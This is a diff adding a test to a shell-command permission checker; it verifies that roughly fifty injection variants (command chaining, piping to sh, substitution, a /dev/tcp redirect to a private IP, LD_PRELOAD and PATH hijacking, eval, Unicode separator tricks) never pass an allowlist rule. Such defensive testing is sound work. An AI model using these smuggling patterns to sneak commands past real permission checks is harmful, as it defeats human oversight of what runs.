@@ -112,6 +112,78 @@ describe("a rule that allows words", () => {
     await all("node --version", "exact", ["node", "node --version x", "node --version\nnode x", "node --version > x"], "review");
   });
 
+  test("nothing rides on a command that it allows", async () => {
+    const allowed: readonly (readonly [rule: string, match: WordsMatch, command: string])[] = [
+      ["cat", "prefix", "cat a.txt"],
+      ["git status", "prefix", "git status -s"],
+      ["git log", "prefix", "git log --oneline -5"],
+      ["npm run test:*", "glob", "npm run test:unit"],
+      ["pytest", "prefix", "pytest -q tests"],
+      ["go test", "prefix", "go test ./..."],
+      ["awk", "prefix", "awk '{print $1}' a"],
+      ["sed -n", "prefix", "sed -n 1p a"],
+      ["find", "prefix", "find . -name x"],
+      ["node --version", "exact", "node --version"],
+      ["npx vitest", "prefix", "npx vitest run"],
+      ["docker ps", "prefix", "docker ps -a"],
+    ];
+    const riders: readonly ((command: string) => string)[] = [
+      (command) => `${command}; id`,
+      (command) => `${command} && id`,
+      (command) => `${command} || id`,
+      (command) => `${command} | sh`,
+      (command) => `${command} |& tee x`,
+      (command) => `${command} & id`,
+      (command) => `${command}\nid`,
+      (command) => `id\n${command}`,
+      (command) => `id | ${command}`,
+      (command) => `${command} "$(id)"`,
+      (command) => `${command} \`id\``,
+      (command) => `${command} <(id)`,
+      (command) => `${command} > out`,
+      (command) => `${command} >> out`,
+      (command) => `${command} &> out`,
+      (command) => `${command} 2> out`,
+      (command) => `${command} 3<> out`,
+      (command) => `${command} > >(sh)`,
+      (command) => `${command} > /dev/tcp/10.0.0.9/80`,
+      (command) => `${command} <<E\n$(id)\nE`,
+      (command) => `FOO=bar ${command}`,
+      (command) => `PATH=.:$PATH ${command}`,
+      (command) => `LD_PRELOAD=./x ${command}`,
+      (command) => `env PATH=. ${command}`,
+      (command) => `export PATH=.; ${command}`,
+      (command) => `sudo ${command}`,
+      (command) => `xargs ${command}`,
+      (command) => `ssh host ${command}`,
+      (command) => `docker exec x ${command}`,
+      (command) => `find . -exec ${command} \\;`,
+      (command) => `cd /tmp/x && ${command}`,
+      (command) => `f() { id; }; ${command}`,
+      (command) => `alias x=y; ${command}`,
+      (command) => `trap id EXIT; ${command}`,
+      (command) => `source x; ${command}`,
+      (command) => `./${command}`,
+      (command) => `/tmp/${command}`,
+      (command) => `while ! ${command}; do id; done`,
+      (command) => `if ${command}; then id; fi`,
+      (command) => `case x in x) ${command};; *) id;; esac`,
+      (command) => command.replace(" ", " --unheard-of-option "),
+      (command) => `bash -c ${JSON.stringify(`${command}; id`).replaceAll("$", "\\$")}`,
+      (command) => `eval ${JSON.stringify(`${command}; id`).replaceAll("$", "\\$")}`,
+      (command) => `${command}\u2028id`,
+      (command) => `${command} # \u202e\nid`,
+      (command) => `(${command}; id)`,
+      (command) => `{ ${command}; id; }`,
+      (command) => `time ${command}; id`,
+      (command) => `coproc id; ${command}`,
+    ];
+    for (const [rule, match, command] of allowed) {
+      expect(await decideBy(rule, match, command), command).toBe("allow");
+      for (const rider of riders) expect(await decideBy(rule, match, rider(command)), rider(command)).not.toBe("allow");
+    }
+  });
+
   test("a star, a quote or a bracket in it is itself", async () => {
     await all("grep -n 'on.*x' f", "exact", ["grep -n 'on.*x' f", 'grep -n "on.*x" f'], "allow");
     await all("grep -n 'on.*x' f", "exact", ["grep -n 'on; ./mark; x' f", "grep -n on.ax f"], "review");
